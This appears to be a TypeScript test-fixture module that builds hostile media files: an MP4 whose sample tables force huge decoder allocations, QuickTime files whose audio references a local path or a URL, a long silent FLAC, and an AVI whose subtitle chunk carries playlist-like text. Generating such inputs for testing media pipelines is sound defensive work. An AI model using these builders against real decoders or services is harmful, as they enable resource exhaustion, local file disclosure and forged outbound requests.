/** Files that are made to harm whoever decodes them, written from the formats' specifications. */

/** A box of ISO/IEC 14496-12; text is Latin-1. */
export function box(type: string, ...parts: readonly (Uint8Array | string)[]): Buffer {
  const body = Buffer.concat(parts.map((part) => (typeof part === 'string' ? Buffer.from(part, 'latin1') : part)));
  return Buffer.concat([u32(body.length + 8), Buffer.from(type, 'latin1'), body]);
}

export function u32(...values: readonly number[]): Buffer {
  const bytes = Buffer.alloc(4 * values.length);
  for (const [at, value] of values.entries()) bytes.writeUInt32BE(value, 4 * at);
  return bytes;
}

export function u16(...values: readonly number[]): Buffer {
  const bytes = Buffer.alloc(2 * values.length);
  for (const [at, value] of values.entries()) bytes.writeUInt16BE(value, 2 * at);
  return bytes;
}

const matrix = u32(0x10000, 0, 0, 0, 0x10000, 0, 0, 0, 0x40000000);

interface Track {
  /** What `dref` says of where the sound is; 1 in its flags: in this file. */
  readonly dataReference: Buffer;
  readonly codec: string;
  readonly samples: number;
  readonly sampleBytes: number;
  readonly sampleLength: number;
  readonly offset: number;
}

function trackBox(id: number, { dataReference, codec, samples, sampleBytes, sampleLength, offset }: Track): Buffer {
  const entry = box(codec, u32(0), u16(0, 1), u32(0, 0), u16(1, 16, 0, 0), u32(8_000 << 16));
  const tables = box(
    'stbl',
    box('stsd', u32(0, 1), entry),
    box('stts', u32(0, 1, samples, sampleLength)),
    box('stsc', u32(0, 1, 1, samples, 1)),
    box('stsz', u32(0, sampleBytes, samples)),
    box('stco', u32(0, 1, offset)),
  );
  const media = box('minf', box('smhd', u32(0, 0)), box('dinf', box('dref', u32(0, 1), dataReference)), tables);
  const header = box('tkhd', u32(7, 0, 0, id, 0, 1_000, 0, 0), u16(0, 0, 0x100, 0), matrix, u32(0, 0));
  const handler = box('hdlr', u32(0, 0), 'soun', u32(0, 0, 0), '\0');
  return box('trak', header, box('mdia', box('mdhd', u32(0, 0, 0, 8_000, 8_000, 0)), handler, media));
}

function mp4(tracks: readonly Track[]): Buffer {
  const next = u32(0, 0, 0, 0, 0, 0, tracks.length + 1);
  const movie = box('mvhd', u32(0, 0, 0, 1_000, 1_000, 0x10000), u16(0x100, 0), u32(0, 0), matrix, next);
  const boxes = tracks.map((track, at) => trackBox(at + 1, track));
  return Buffer.concat([
    box('ftyp', 'qt  ', u32(0), 'qt  '),
    box('moov', movie, ...boxes),
    box('mdat', Buffer.alloc(64)),
  ]);
}

/** Under 400 bytes a track; the index that it makes a decoder build has 24 bytes for each of its samples. */
export function indexBomb(tracks: number, samples: number): Buffer {
  const track = { codec: 'mp4a', samples, sampleBytes: 1, sampleLength: 1_024, offset: 100 };
  return mp4(Array.from({ length: tracks }, () => ({ ...track, dataReference: box('url ', u32(1)) })));
}

/** A QuickTime file whose sound is in another file, named by a macOS alias record. */
export function aliasFile(path: string): Buffer {
  const name = Buffer.from(path.length % 2 === 0 ? path : `${path}\0`);
  const alias = Buffer.concat([
    ...[Buffer.alloc(10), Buffer.alloc(28), Buffer.alloc(12), Buffer.alloc(64), Buffer.alloc(16)],
    // Levels up and down, a gap, then the absolute path, then the end.
    ...[u16(0, 0), Buffer.alloc(16), u16(2, path.length), name, u16(0xffff, 0)],
  ]);
  return elsewhere(box('alis', u32(0), alias));
}

/** A QuickTime file whose sound is said to be at an address. */
export function addressedFile(url: string): Buffer {
  return elsewhere(box('url ', u32(0), `${url}\0`));
}

/** Where the sound is said to begin, this file has ended long since. */
function elsewhere(dataReference: Buffer): Buffer {
  return mp4([{ dataReference, codec: 'sowt', samples: 8_000, sampleBytes: 2, sampleLength: 1, offset: 2_000 }]);
}

/** A FLAC file of silence at 1 kHz: each frame is about 15 bytes and lasts 65.535 s. */
export function silentFlac(lengthMs: number): Buffer {
  const blockSamples = 0xffff;
  const streamInfo = Buffer.alloc(34);
  streamInfo.writeUInt16BE(blockSamples, 0);
  streamInfo.writeUInt16BE(blockSamples, 2);
  // 20 bits of sample rate, 3 of channels - 1, 5 of bits - 1, 36 of samples: unknown.
  streamInfo.writeUIntBE((1_000 << 12) | (0 << 9) | (15 << 4), 10, 4);
  const frames = Math.ceil(lengthMs / blockSamples);
  return Buffer.concat([
    Buffer.from('fLaC\x80\0\0\x22', 'latin1'),
    streamInfo,
    ...Array.from({ length: frames }, (_, at) => flacFrame(at, blockSamples)),
  ]);
}

function flacFrame(number: number, samples: number): Buffer {
  // Block size in 16 bits at the end, rate as in the stream's header; one channel of 16 bits.
  const head = Buffer.concat([Buffer.from([0xff, 0xf8, 0x70, 0x08]), codedNumber(number), u16(samples - 1)]);
  const checked = Buffer.concat([head, Buffer.from([crc(head, 8, 0x07)])]);
  // One subframe: a constant, 0.
  const frame = Buffer.concat([checked, Buffer.from([0, 0, 0])]);
  return Buffer.concat([frame, u16(crc(frame, 16, 0x8005))]);
}

/** A number in the manner of UTF-8. */
function codedNumber(value: number): Buffer {
  return Buffer.from(String.fromCodePoint(value), 'utf8');
}

function crc(bytes: Uint8Array, bits: 8 | 16, polynomial: number): number {
  const top = 1 << (bits - 1);
  const mask = (1 << bits) - 1;
  let rest = 0;
  for (const byte of bytes) {
    rest ^= byte << (bits - 8);
    for (let bit = 0; bit < 8; bit++) rest = ((rest & top) !== 0 ? (rest << 1) ^ polynomial : rest << 1) & mask;
  }
  return rest;
}

/** An AVI with a subtitle track that is said to hold the text: decoders once opened a playlist from there. */
export function aviWithSubtitle(text: string): Buffer {
  const chunk = (id: string, ...parts: readonly (Uint8Array | string)[]): Buffer => {
    const body = Buffer.concat(parts.map((part) => (typeof part === 'string' ? Buffer.from(part, 'latin1') : part)));
    const size = Buffer.alloc(4);
    size.writeUInt32LE(body.length);
    return Buffer.concat([Buffer.from(id, 'latin1'), size, body, Buffer.alloc(body.length % 2)]);
  };
  const le32 = (...values: readonly number[]) => Buffer.concat(values.map((value) => u32(value).reverse()));
  const le16 = (...values: readonly number[]) => Buffer.concat(values.map((value) => u16(value).reverse()));
  const header = chunk('avih', le32(40_000, 0, 0, 0x10, 1, 0, 1, 0, 0, 0, 0, 0, 0, 0));
  const stream = chunk('strh', 'txts', le32(0, 0, 0, 0, 1, 1, 0, 1, 0, 0xffffffff, 0), le16(0, 0, 0, 0));
  const headers = chunk('LIST', 'hdrl', header, chunk('LIST', 'strl', stream, chunk('strf', '')));
  const name = Buffer.from('x\0', 'utf16le');
  const gab2 = Buffer.concat([
    ...[Buffer.from('GAB2\0'), le16(2), le32(name.length), name, le16(4), le32(text.length), Buffer.from(text)],
  ]);
  return chunk('RIFF', 'AVI ', headers, chunk('LIST', 'movi', chunk('00tx', gab2)));
}
